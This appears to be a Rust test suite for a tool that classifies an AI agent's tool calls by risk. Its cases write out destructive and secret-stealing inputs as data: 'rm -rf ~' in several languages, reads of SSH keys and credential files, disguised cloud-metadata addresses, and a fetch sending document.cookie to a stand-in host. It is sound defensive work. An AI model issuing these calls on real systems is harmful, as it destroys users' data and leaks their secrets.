use serde_json::{Value, json};

use crate::path::Surroundings;

/// What is left of a call's effects: kinds and places, without what only goes out.
fn effects(name: &str, args: &Value) -> String {
    let around = Surroundings {
        cwd: Some("/home/ann/app"),
        workspace: Some("/home/ann/app"),
        home: Some("/home/ann"),
        resolve: None,
    };
    let (server, name) = name.split_once('/').map_or((None, name), |(server, name)| (Some(server), name));
    let shown = super::understand(name, server, args, &around).into_iter().map(|effect| match effect.place {
        Some(place) => format!("{} {place}", effect.kind),
        None => effect.kind.to_string(),
    });
    let mut shown: Vec<String> = shown.collect();
    shown.dedup();
    shown.join(", ")
}

#[track_caller]
fn check(cases: &[(&str, Value, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(name, args, expected)| {
            let found = effects(name, args);
            (found != *expected).then(|| format!("{name} {args}\n  expected {expected}\n  found    {found}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn files_by_any_name() {
    check(&[
        ("fs/read_text_file", json!({"path": "~/.ssh/id_rsa"}), "read-secret outside"),
        ("mcp__fs__read_text_file", json!({"path": "/home/ann/.ssh/id_rsa"}), "read-secret outside"),
        ("fs/readMany", json!({"filePaths": ["a.rs", "../.netrc"]}), "read inside, read-secret outside"),
        ("fs/get_file_info", json!({"path": ".env"}), "network"),
        ("fs/list_directory", json!({"path": "/home/ann/.ssh"}), "network"),
        ("fs/search_files", json!({"path": "/home/ann/.aws", "pattern": "**/*"}), "network"),
        ("fs/search_files", json!({"path": "/home/ann/.aws", "regex": "key"}), "read-secret outside"),
        ("fs/write_file", json!({"path": "/etc/hosts", "content": "x"}), "overwrite system"),
        ("fs/write_file", json!({"path": "src/a.rs", "content": "rm -rf /"}), "overwrite inside"),
        (
            "fs/writeAll",
            json!({"items": [{"path": "a"}, {"path": "../b"}]}),
            "overwrite inside, overwrite outside, network",
        ),
        ("fs/delete_directory", json!({"path": "src/..", "recursive": true}), "delete workspace"),
        ("fs/delete_items", json!({"paths": ["dist"]}), "delete inside"),
        ("fs/delete_items", json!({"paths": [".git"]}), "delete vcs"),
        ("fs/move_file", json!({"source": "a", "destination": "../b"}), "move inside, overwrite outside"),
        ("fs/copy_file", json!({"from": "~/.ssh/id_rsa", "to": "k"}), "read-secret outside, overwrite inside"),
        ("fs/edit_file", json!({"path": "/etc/hosts", "dryRun": true}), "overwrite system"),
        ("page/take_snapshot", json!({"filename": "/home/ann/.bashrc"}), "overwrite outside, persist outside"),
        ("mail/download_attachment", json!({"save_path": "/etc/x"}), "overwrite system"),
        ("chat/upload_file", json!({"channel": "c", "file_path": ".env"}), "read-secret inside, network"),
        // A file of a hosted repository is none of this machine.
        ("hub/get_file_contents", json!({"owner": "o", "repo": "r", "path": ".env"}), "network"),
        ("hub/create_snippet", json!({"filename": "notes.txt", "content": "x"}), "network"),
        ("fs/chmod_items", json!({"paths": ["/etc"], "mode": "777"}), "permissions system, network"),
    ]);
}

#[test]
fn addresses_in_every_disguise() {
    for url in [
        "http://169.254.169.254/latest",
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0251.254.0xa9.254/",
        "http://169.254.43518/",
        "http://[::ffff:169.254.169.254]/",
        "http://[0:0:0:0:0:ffff:a9fe:a9fe]/",
        "http://user:pass@169.254.169.254/",
        "http://%31%36%39.254.169.254/",
        "http://metadata.google.internal./x",
    ] {
        let found = effects("web/fetch_page", &json!({ "url": url }));
        assert!(found.contains("read-secret"), "{url}: {found}");
    }
    check(&[
        ("web/fetch", json!({"url": "https://example.org/?q=169.254.169.254"}), "network"),
        ("web/search", json!({"query": "what is http://169.254.169.254"}), "network"),
        ("web/open", json!({"uri": "file:///home/ann/.ssh/id_rsa"}), "read-secret outside"),
        ("web/open", json!({"uri": "FILE:/home/ann/%2Essh/id_rsa"}), "read-secret outside"),
        ("web/open", json!({"url": "view-source:file:///etc/shadow"}), "read-secret system, network"),
        ("web/open", json!({"url": "file:///home/ann/app/index.html"}), "read inside"),
        ("api/http_delete", json!({"url": "https://api.cloudflare.com/client/v4/zones/1"}), "infra, network"),
    ]);
}

#[test]
fn statements_are_read_and_not_searched() {
    check(&[
        ("db/query", json!({"sql": "SELECT 1; --\nDELETE FROM a"}), "database"),
        ("db/query", json!({"sql": "SELECT 'drop table a'"}), ""),
        ("db/run", json!({"params": {"statements": ["select 1", "drop table a"]}}), "database"),
        ("db/run", json!({"operations": [{"statement": "truncate a"}]}), "database"),
        ("db/execute", json!({"query": "DELETE FROM a WHERE id = 7"}), ""),
        ("db/execute", json!({"query": "DELETE FROM a WHERE 1 = 1"}), "database"),
        ("db/execute", json!({"query": "GRANT ALL ON *.* TO x"}), "escalate"),
        ("db/execute", json!({"query": "GRANT SELECT ON shop.orders TO x"}), ""),
        ("db/execute", json!({"query": "SELECT rolpassword FROM pg_authid"}), "read-secret"),
        ("db/explain", json!({"query": "DELETE FROM a"}), "network"),
        ("db/explain", json!({"query": "DELETE FROM a", "analyze": true}), "database"),
        ("db/sqlToRest", json!({"sql": "DELETE FROM a"}), "network"),
        ("graph/write_cypher", json!({"query": "MATCH (n) DETACH DELETE n"}), "database, network"),
        ("web/search", json!({"query": "drop table in postgres"}), "network"),
        ("db/mutate", json!({"operation": "delete", "table": "a", "where": "true"}), "database, network"),
        ("db/mutate", json!({"operation": "delete", "table": "a", "where": "id = 7"}), "network"),
        ("db/import_rows", json!({"table": "a", "truncateFirst": true}), "database, network"),
        ("cache/redis_command", json!({"command": "FLUSHALL"}), "database"),
    ]);
}

#[test]
fn what_is_handed_to_programs() {
    check(&[
        ("box/run_command", json!({"command": "rm -rf *", "workdir": "/home/ann"}), "delete workspace, delete home"),
        ("box/run_command", json!({"command": "bash -s", "stdin": "rm -rf ~"}), "delete home"),
        ("box/exec", json!({"command": ["sh", "-c", "rm -rf ~"]}), "delete home"),
        ("box/run", json!({"command": "rm", "args": ["-rf", "/home/ann"]}), "delete home"),
        ("tmux/send_keys", json!({"keys": "git reset --hard"}), "git-discard"),
        ("tmux/command", json!({"args": ["run-shell", "rm -rf ~"]}), "delete home"),
        ("chat/send_message", json!({"text": "never run rm -rf ~"}), "network"),
        ("ssh/send_input", json!({"input": "DROP DATABASE a;\n"}), "database"),
        ("cloud/run_gcloud_command", json!({"args": ["projects", "delete", "p"]}), "infra"),
        ("x/run_python", json!({"code": "import shutil; shutil.rmtree('/home/ann')"}), "delete home"),
        ("x/run_code", json!({"language": "ruby", "code": "`rm -rf ~`"}), "delete home"),
        ("x/run_code", json!({"code": "print('rm -rf ~')"}), ""),
        ("jupyter/add_cell", json!({"cell_type": "code", "source": "!rm -rf ~"}), "delete home, network"),
        ("browser/evaluate", json!({"function": "() => document.title"}), ""),
        (
            "browser/evaluate",
            json!({"function": "() => fetch('https://a.example', {body: document.cookie})"}),
            "network, send-secret",
        ),
        ("git/git_reset", json!({"path": "/home/ann/app", "mode": "hard"}), "git-discard"),
        ("git/git_reset", json!({"path": "/home/ann/app", "mode": "soft"}), ""),
        ("git/git_push", json!({"remote": "origin", "branch": "main", "force": true}), "git-rewrite, network"),
        ("git/git_clean", json!({"force": true, "directories": true}), "git-discard"),
        ("git/git_clean", json!({"dryRun": true, "directories": true}), ""),
        ("kube/resources_delete", json!({"apiVersion": "v1", "kind": "Namespace", "name": "p"}), "infra"),
        ("kube/resources_get", json!({"apiVersion": "v1", "kind": "Secret", "name": "p"}), "read-secret"),
        ("podman/run_container", json!({"image": "a", "args": "--privileged -v /:/h"}), "escalate"),
    ]);
}

#[test]
fn services() {
    check(&[
        ("hub/delete_repository", json!({"repo": "a"}), "infra, network"),
        ("ocean/droplet-delete", json!({"ID": 1}), "infra"),
        ("hub/deleteWorkspace", json!({"id": "a"}), "infra, network"),
        ("notes/API-delete-a-block", json!({"block_id": "a"}), "network"),
        ("hub/delete_issue_reaction", json!({"id": "a"}), "network"),
        ("hub/remove_user_from_team", json!({"user": "a"}), "network"),
        ("hub/list_deleted_repositories", json!({"org": "a"}), "network"),
        ("flow/versions", json!({"mode": "prune", "id": "a"}), "infra, network"),
        ("flow/versions", json!({"mode": "list", "id": "a"}), "network"),
        ("rest/request", json!({"method": "DELETE", "path": "/orders"}), "infra, network"),
        ("rest/request", json!({"method": "DELETE", "path": "/orders?id=eq.7"}), "network"),
        ("rest/request", json!({"method": "GET", "path": "/orders"}), "network"),
        ("hub/delete_branch", json!({"branch": "main"}), "git-rewrite, network"),
        ("hub/delete_branch", json!({"branch": "ann/try"}), "network"),
        ("hub/delete_branch_protection", json!({"branch": "main"}), "weaken, git-rewrite, network"),
        ("mongo/delete_many", json!({"collection": "a", "filter": {}}), "database, network"),
        ("mongo/delete_many", json!({"collection": "a", "filter": {"id": 7}}), "network"),
        ("bitwarden/get", json!({"object": "password", "id": "a"}), "read-secret, network"),
        ("bitwarden/list", json!({"type": "folders"}), "network"),
        ("iam/create_access_key", json!({"user": "a"}), "read-secret, network"),
        ("neon/get_connection_string", json!({"id": "a"}), "read-secret, network"),
        ("chain/get_token_price", json!({"token": "a"}), "network"),
        ("app/envGet", json!({"name": "STRIPE_KEY"}), "read-secret, network"),
        ("app/envGet", json!({"name": "NODE_ENV"}), "network"),
        ("iam/attach_policy", json!({"arn": "arn:aws:iam::aws:policy/AdministratorAccess"}), "escalate, network"),
        (
            "iam/put_policy",
            json!({"document": {"Effect": "Allow", "Action": ["*"], "Resource": "*"}}),
            "escalate, network",
        ),
        ("pkg/publish_package", json!({"name": "a"}), "publish, network"),
        ("topic/publish", json!({"message": "a"}), "network"),
    ]);
}

#[test]
fn calls_within_calls() {
    check(&[
        ("gate/call_tool", json!({"name": "delete_database", "arguments": {"id": "a"}}), "database, network"),
        ("gate/call_tool", json!({"name": "list_databases", "arguments": {"id": "a"}}), "network"),
        ("gate/batch", json!({"steps": [{"op": "list"}, {"op": "destroy", "vm": "b"}]}), "network, infra, network"),
        ("gate/run_api", json!({"request": "{\"action\": \"DeleteCluster\"}"}), "infra, network"),
        ("gate/manage", json!({"api_operation": "DeleteCluster", "id": "a"}), "infra, network"),
        ("mongo/bulkWrite", json!({"operations": [{"deleteMany": {"filter": {}}}]}), "database"),
        // What a rule does is no deed of the call that makes it.
        ("wall/create_rule", json!({"chain": "input", "action": "drop"}), "network"),
        ("flag/update", json!({"patch": [{"op": "remove", "path": "/environments/test"}]}), "network"),
        ("kube/auth_can_i", json!({"verb": "delete", "resource": "pods"}), "network"),
    ]);
}

#[test]
fn requests_and_mutations() {
    check(&[
        ("x/api", json!({"method": "DELETE", "path": "/v1/projects/{ref}"}), "infra, network"),
        ("x/api", json!({"method": "DELETE", "path": "/repos/o/r/issues/7/comments/3"}), "network"),
        ("x/api", json!({"method": "DELETE", "path": "/carts/7"}), "network"),
        ("x/api", json!({"method": "DELETE", "path": "/carts"}), "infra, network"),
        ("x/request", json!({"method": "DELETE", "url": "http://localhost:3000/api/users/7"}), "network"),
        ("x/query_graphql", json!({"query": "mutation { deleteRepository(id: 1) { ok } }"}), "infra, network"),
        ("x/query_graphql", json!({"query": "mutation { deleteComment(id: 1) { ok } }"}), "network"),
        ("x/query_graphql", json!({"query": "query { deletedRepositories { id } }"}), "network"),
    ]);
}

#[test]
fn tools_named_after_programs() {
    check(&[
        ("rust/cargo_publish", json!({"package": "a"}), "publish, network"),
        ("vc/git", json!({"args": ["push", "--force", "origin", "main"]}), "git-rewrite, network"),
        ("vc/run_git_command", json!({"command": "reset --hard"}), "git-discard"),
        ("x/run", json!({"program": "rm", "arguments": ["-rf", "/home/ann"]}), "delete home"),
        ("x/spawn", json!({"argv": ["rm", "-rf", "/home/ann"]}), "delete home"),
        ("tf/terraform_destroy", json!({"dir": "infra"}), "infra, network"),
    ]);
}

#[test]
fn paths_by_their_looks() {
    check(&[
        (
            "phone/save_screenshot",
            json!({"saveTo": "/home/ann/.bashrc"}),
            "overwrite outside, persist outside, network",
        ),
        ("ai/analyze", json!({"image": "/home/ann/.aws/credentials"}), "read-secret outside"),
        ("ide/get_file_text", json!({"pathInProject": ".env"}), "read-secret inside"),
        ("fs/write_files", json!({"files": {"/home/ann/.bashrc": "x"}}), "overwrite outside, persist outside"),
        ("say/speech_to_text", json!({"audio": "/home/ann/.netrc"}), "read-secret outside"),
        ("mail/attach", json!({"file": "/home/ann/Documents/a.pdf"}), "read outside, network"),
        // Roots of something else than this machine.
        ("drive/create_folder", json!({"path": "/Reports/2026"}), "network"),
        ("iam/create_user", json!({"path": "/", "name": "a"}), "network"),
        ("scene/remove_node", json!({"path": "/Main/Enemy"}), "network"),
        ("notes/search", json!({"query": "/etc/passwd"}), "network"),
    ]);
}

#[test]
fn credentials_rights_and_protections() {
    check(&[
        ("cloud/accessSecretVersion", json!({"name": "a"}), "read-secret, network"),
        ("cloud/regenerate_client_secret", json!({"id": "a"}), "read-secret, network"),
        ("cloud/list_secrets", json!({"project": "a"}), "network"),
        ("cloud/get_app", json!({"id": "a", "reveal_values": true}), "read-secret, network"),
        ("cloud/get_app", json!({"id": "a", "hide_sensitive": false}), "read-secret, network"),
        ("cloud/role_assignment_create", json!({"principal": "p", "role": "Owner"}), "escalate, network"),
        ("cloud/role_assignment_create", json!({"principal": "p", "role": "Reader"}), "network"),
        ("cloud/set_bucket_acl", json!({"bucket": "a", "entity": "allUsers"}), "escalate, network"),
        ("cloud/stop_logging", json!({"name": "a"}), "weaken, network"),
        ("wall/update_firewall", json!({"id": "a", "enabled": false}), "weaken, network"),
        ("wall/update_firewall", json!({"id": "a", "enabled": true}), "network"),
        ("hub/update_ref", json!({"ref": "heads/main", "force": true}), "git-rewrite, network"),
    ]);
}

#[test]
fn code_of_any_language() {
    check(&[
        ("x/run_code", json!({"language": "go", "code": "os.RemoveAll(\"/home/ann\")"}), "delete home"),
        ("x/run_code", json!({"language": "rust", "code": "std::fs::remove_dir_all(\"/home/ann\")"}), "delete home"),
        ("x/run_code", json!({"language": "java", "code": "rt.exec(\"rm -rf /home/ann\")"}), "delete home"),
        ("x/run_python", json!({"code": "print(os.environ)"}), "read-secret"),
        ("x/run_python", json!({"code": "print(os.environ.get('PATH'))"}), ""),
        ("x/run_code", json!({"language": "go", "code": "fmt.Println(\"os.RemoveAll\")"}), ""),
    ]);
}

/// Whoever calls can always add an argument that the tool ignores.
#[test]
fn an_argument_more_disarms_nothing() {
    check(&[
        ("box/run_command", json!({"command": "rm -rf ~", "dryRun": true}), "delete home"),
        ("fs/delete_file", json!({"path": "/etc/hosts", "preview": true}), "delete system"),
        ("db/query", json!({"sql": "drop table a", "dry_run": true}), "database"),
        ("hub/create_issue", json!({"body": "x", "file": "a"}), "overwrite inside, network"),
        ("hub/create_issue", json!({"body": "x", "command": "ls"}), "network"),
        ("box/batch", json!({"steps": [{"op": "test", "path": "/a", "command": "rm -rf ~"}]}), "delete home"),
        ("hub/delete_database", json!({"id": "a", "body": "x", "filter": "x"}), "database, network"),
    ]);
}
